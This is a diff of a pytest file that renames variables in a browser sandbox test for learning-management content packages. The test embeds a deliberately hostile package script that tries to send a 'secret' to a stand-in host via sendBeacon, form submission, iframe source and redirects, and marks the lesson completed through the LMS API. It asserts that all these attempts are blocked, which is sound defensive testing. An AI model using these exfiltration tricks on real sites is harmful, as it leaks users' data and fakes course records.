@@ -40,18 +40,19 @@ const tries = {
   top: () => { top.location = "ELSEWHERE/top"; },
 };
 (async () => {
-  const told = [];
+  const reported = [];
   for (const [name, attempt] of Object.entries(tries)) {
-    try { told.push(`${name}: ${String(await attempt()).slice(0, 40)}`); } catch { told.push(`${name}: refused`); }
+    const outcome = await (async () => String(await attempt()).slice(0, 40))().catch(() => "refused");
+    reported.push(`${name}: ${outcome}`);
   }
   navigator.sendBeacon("ELSEWHERE/beacon", "secret");
   document.getElementById("form").submit();
   document.getElementById("away").src = "ELSEWHERE/away?secret";
   const api = window.parent.API;
-  told.push(`LMS: ${api.LMSInitialize("")}`);
-  told.push(`${api.LMSSetValue("cmi.core.lesson_status", "completed")} ${api.LMSCommit("")}`);
+  reported.push(`LMS: ${api.LMSInitialize("")}`);
+  reported.push(`${api.LMSSetValue("cmi.core.lesson_status", "completed")} ${api.LMSCommit("")}`);
   location = "ELSEWHERE/location?secret";
-  console.info(`Told: ${told.join(", ")}`);
+  console.info(`Reported: ${reported.join(", ")}`);
 })();
 </script>"""
 
@@ -69,14 +70,14 @@ _IN_HASTE = "const every = setInterval; window.setInterval = (act, time) => ever
 
 @pytest.fixture
 def elsewhere() -> Iterator[tuple[str, list[str]]]:
-    """Serve another site, which remembers what it was asked."""
-    asked: list[str] = []
+    """Serve another site, which remembers the paths of all requests."""
+    requests: list[str] = []
     lock = threading.Lock()
 
     class Elsewhere(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
             with lock:
-                asked.append(self.path)
+                requests.append(self.path)
             self.send_response(204)
             self.end_headers()
 
@@ -86,14 +87,14 @@ def elsewhere() -> Iterator[tuple[str, list[str]]]:
             pass
 
     with Server(Elsewhere) as server:
-        yield f"http://127.0.0.1:{server.server_port}", asked
+        yield f"http://127.0.0.1:{server.server_port}", requests
 
 
 def test_a_hostile_package_reaches_nothing_but_the_lms(
     browser: Browser, elsewhere: tuple[str, list[str]], tmp_path: Path
 ) -> None:
     """No other site, not the panel, no other window: only the run-time that every package looks for."""
-    address, asked = elsewhere
+    address, requests = elsewhere
     panel = Loopback()  # a port that is free, to write into the package before it is played
     panel.close()
     path = tmp_path / "hostile.zip"
@@ -103,7 +104,7 @@ def test_a_hostile_package_reaches_nothing_but_the_lms(
         assert play.panel.origin == panel.origin
         page = browser.new_page()
         with page.expect_console_message(
-            lambda message: message.text.startswith("Told: "), timeout=PATIENCE * 1000
+            lambda message: message.text.startswith("Reported: "), timeout=PATIENCE * 1000
         ) as message:
             page.goto(f"{play.panel.origin}/")
         expect(page.locator("#sentence")).to_contain_text("Completed")
@@ -111,8 +112,8 @@ def test_a_hostile_package_reaches_nothing_but_the_lms(
         assert len(page.context.pages) == 1
         page.close()
     tried = ("panel", "framed", "stored", "elsewhere", "worker", "opened", "top")
-    assert message.value.text == "Told: " + "".join(f"{name}: refused, " for name in tried) + "LMS: true, true true"
-    assert asked == []
+    assert message.value.text == "Reported: " + "".join(f"{name}: refused, " for name in tried) + "LMS: true, true true"
+    assert requests == []
 
 
 def test_a_sequenced_package_is_led_by_its_rules(browser: Browser, tmp_path: Path) -> None:
